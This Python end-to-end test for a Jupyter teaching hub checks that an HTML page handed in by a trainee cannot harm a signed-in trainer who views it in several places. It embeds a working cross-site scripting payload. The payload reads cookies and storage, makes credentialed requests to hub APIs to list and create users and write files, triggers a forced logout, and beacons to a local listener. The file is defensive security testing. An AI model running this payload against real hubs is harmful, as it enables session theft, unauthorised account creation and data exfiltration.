"""A trainee's page attacks who looks at it: a signed-in trainer opens it in a real browser, everywhere it is shown."""

from __future__ import annotations

import asyncio
import json
import re
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from urllib.parse import quote

import nbformat
import pytest
from playwright.sync_api import Frame, Page, expect

from curriculum.builder.programme import load_programme
from graders.exchange.client import ExchangeClient
from graders.exercise_widget import live_preview
from graders.exercise_widget.texts import templates
from hub_config.course import CURRICULUM
from hub_config.sandbox_spawner import COURSE_FOLDER
from tests.end_to_end.conftest import EnterPage
from tests.real_hub import Hub, wait_for

pytestmark = [pytest.mark.hub, pytest.mark.browser, pytest.mark.sandbox]

UNIT = "web-s04-html-base"
# Whatever a try gives is written down where only the test looks; "tried" says that the script did run.
ATTACK = """
<h1 id="hostile">Page de test</h1>
<form id="form" method="post" action="HUBhub/logout" target="_top"></form>
<script>
(async () => {
  const loot = {};
  const attempt = async (name, what) => {
    try { const got = await what(); if (got) loot[name] = String(got).slice(0, 99); } catch { }
  };
  const ask = (address, options) => async () => {
    const answer = await fetch(address, {credentials: 'include', ...options});
    return answer.ok && answer.status + (await answer.text());
  };
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => String(localStorage.length));
  await attempt('databases', async () => JSON.stringify(await indexedDB.databases()));
  await attempt('parent', () => parent !== self && parent.document.body.innerText);
  await attempt('top', () => top !== self && top.location.href);
  await attempt('opener', () => opener && opener.location.href);
  await attempt('window', () => window.open('HUBhub/home'));
  await attempt('hub', ask('HUBhub/api/user'));
  await attempt('people', ask('HUBhub/api/users'));
  await attempt('create', ask('HUBhub/api/users/intrus', {method: 'POST'}));
  await attempt('class', ask('HUBservices/atelier/la-classe'));
  await attempt('service', ask('HUBservices/atelier/api/health'));
  await attempt('server', ask('HUBuser/claire/api/contents'));
  await attempt('write', ask('HUBuser/claire/api/contents/intrus.txt', {method: 'PUT', body: '{}'}));
  await attempt('worker', () => navigator.serviceWorker && navigator.serviceWorker.register('HUBintrus.js'));
  await attempt('leave', () => { if (top !== self) top.location = 'HUBhub/logout'; });
  await attempt('send', () => { if (top !== self) document.getElementById('form').submit(); });
  await attempt('message', () => { parent.postMessage({type: 'atelier', secret: 1}, '*'); });
  new Image().src = 'LISTENER/image';
  fetch('LISTENER/fetch', {mode: 'no-cors'}).catch(() => 0);
  navigator.sendBeacon('LISTENER/beacon', 'a');
  document.documentElement.dataset.loot = JSON.stringify(loot);
  document.documentElement.dataset.tried = 'yes';
})();
</script>
"""

PREVIEW = """async ([words, text]) => {
  const { fullLabextensionsUrl } = JSON.parse(document.getElementById("jupyter-config-data").textContent);
  const { preview } = await import(`${fullLabextensionsUrl}/atelier-exercise/preview.js`);
  const shown = preview(words);
  document.body.append(shown.node);
  shown.show("index.html", { "index.html": { text } });
}"""


@contextmanager
def counting_listener() -> Iterator[tuple[str, list[bytes]]]:
    """A web server on the loopback that notes what callers ask."""
    calls: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def count() -> None:
            while True:
                try:
                    caller, _ = server.accept()
                except OSError:  # closed: the test is over
                    return
                calls.append(caller.recv(4000))
                caller.close()

        threading.Thread(target=count, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", calls
        server.shutdown(socket.SHUT_RDWR)


def hand_in(place: Hub, attack: str) -> None:
    """Bruno hands in pages and a notebook that all attack; and it is graded."""
    (unit,) = (unit for unit in load_programme(CURRICULUM).units if unit.unit_id == UNIT)
    bruno = place.visitor("bruno")
    bruno.open_server()
    with ThreadPoolExecutor() as thread:  # the browser's own loop runs in this one
        asking = bruno.run("import os; print(os.environ['JUPYTERHUB_API_TOKEN'])")
        token = thread.submit(asyncio.run, asking).result().strip()
    client = ExchangeClient(place.settings.service_url, token)
    _, files, _ = client.release(UNIT)
    notebook = nbformat.reads(bytes(files["s04-html-base.ipynb"]).decode(), as_version=4)
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell(attack))
    shown = {"text/html": attack, "application/javascript": "document.title = 'pris'"}
    output = nbformat.v4.new_output("display_data", shown)
    notebook.cells.insert(0, nbformat.v4.new_code_cell(attack, outputs=[output], execution_count=1))
    pages = {
        f"{taught.exercise.folder}/{name}": attack.encode()
        for taught in unit.exercises
        for name in taught.exercise.learner_files
        if name.endswith(".html")
    }
    client.submit(UNIT, {**files, **pages, "s04-html-base.ipynb": nbformat.writes(notebook).encode()})
    wait_for(lambda: "Corrigé" in bruno.get("/services/atelier/").text, "the grading of the hostile hand-in")


def looted(page: Page) -> dict[str, dict[str, str]]:
    """What the page's frames got hold of, by address; empty where no script of the trainee's ran at all."""
    got = {}
    for frame in page.frames:
        if frame.evaluate("document.documentElement.dataset.tried"):
            got[frame.url] = json.loads(frame.evaluate("document.documentElement.dataset.loot"))
    return got


def wait_until_tried(frame: Frame) -> None:
    """Until the hostile script of a frame has tried everything."""
    frame.wait_for_function("document.documentElement.dataset.tried === 'yes'")


@pytest.mark.timeout(300)
def test_a_hostile_page_gains_nothing_from_who_looks_at_it(place: Hub, enter: EnterPage):
    """As a file, in the preview, in the formgrader and as feedback: no cookie, no answer, no window, no other page."""
    with counting_listener() as (listener, calls):
        attack = ATTACK.replace("HUB", place.url).replace("LISTENER", listener)
        hand_in(place, attack)
        claire = enter("claire")
        claire.goto(f"{place.url}hub/spawn/claire")
        claire.wait_for_url("**/user/claire/lab**", timeout=90_000)
        claire.locator("#jp-main-dock-panel").wait_for()
        cookies = claire.context.cookies()

        # The preview of an exercise, in the page of her own server.
        claire.evaluate(PREVIEW, [templates(*live_preview.WORDS), attack])
        frame = claire.wait_for_selector("iframe.atelier-preview-frame", state="attached").content_frame()
        assert frame is not None
        wait_until_tried(frame)
        assert looted(claire) == {"about:srcdoc": {}}
        assert calls == []
        assert "/user/claire/" in claire.url

        # The file, as her server gives it, opened as a page of its own.
        submitted = f"{COURSE_FOLDER}/submitted/bruno/{UNIT}/05-ecrire/index.html"
        claire.goto(f"{place.url}user/claire/files/{quote(submitted)}")
        wait_until_tried(claire.main_frame)
        assert looted(claire) == {claire.url: {}}

        # The same file in JupyterLab, which shows it in a frame.
        claire.goto(f"{place.url}user/claire/lab/tree/{quote(submitted)}?factory=HTML+Viewer&reset")
        expect(claire.locator("iframe").first).to_be_attached(timeout=60_000)
        claire.frame_locator("iframe").first.locator("#hostile").wait_for()
        assert all(not loot for loot in looted(claire).values())

        # The submitted notebook in the formgrader, and the feedback page.
        claire.goto(f"{place.url}user/claire/formgrader/gradebook/{UNIT}/s04-html-base")
        links = claire.get_by_role("link", name=re.compile(r"Submission #"))
        links.first.wait_for()
        for address in [link.get_attribute("href") for link in links.all()]:
            claire.goto(place.url.rstrip("/") + str(address))
            claire.wait_for_load_state()
            assert looted(claire) == {}
        claire.goto(f"{place.url}services/atelier/la-classe/bruno/retour/{UNIT}")
        claire.wait_for_load_state()
        assert looted(claire) == {}

        assert len(claire.context.pages) == 1
        assert "pris" not in claire.title()
        assert {one["name"] for one in cookies} <= {one["name"] for one in claire.context.cookies()}
        claire.goto(place.url)
        claire.wait_for_url("**/services/atelier/**")  # still signed in
        assert place.api("GET", "users/intrus").status_code == 404
        # A file opened by itself may ask other places, as any page may, but takes nothing of hers along.
        assert [call for call in calls if b"cookie" in call.lower()] == []
